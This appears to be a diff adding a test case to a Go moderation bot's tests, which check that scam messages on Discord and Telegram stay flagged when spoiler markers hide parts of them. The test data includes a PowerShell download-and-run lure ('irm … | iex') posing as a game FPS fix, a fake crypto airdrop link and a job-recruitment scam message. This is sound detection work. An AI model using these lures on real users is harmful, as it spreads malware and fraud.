@@ -38,6 +38,8 @@ func TestVerdictHoldsAsWritten(t *testing.T) {
 			"KuCoin airdrop is live now, claim before it ends: ||kucoin-bonus.live/claim||", nil},
 		{"pasted command in a spoiler", true, "hey bro this fixes the FPS drop in valorant, just paste in powershell: irm https://fpsboost-tool.net/run | iex", bot.Discord,
 			"hey bro this fixes the FPS drop in valorant, just paste in powershell: irm ||https://fpsboost-tool.net/run|| | iex", nil},
+		{"pasted command, the spoiler from its first word", true, "paste this in powershell and the lag is gone: irm https://fpsboost-tool.net/run | iex", bot.Discord,
+			"paste this in powershell and the lag is gone: ||irm https://fpsboost-tool.net/run|| | iex", nil},
 		{"group invite, www. before the host", true, "Tuyển CTV làm việc online tại nhà, nhận hoa hồng 15% mỗi đơn, tham gia nhóm Zalo: https://zalo.me/g/qwe123abc", bot.Telegram,
 			"Tuyển CTV làm việc online tại nhà, nhận hoa hồng 15% mỗi đơn, tham gia nhóm Zalo: https://www.zalo.me/g/qwe123abc", nil},
 		{"masked link showing its own address", false, page, bot.Discord, page, []bot.LinkRef{{Text: page, URL: page}}},
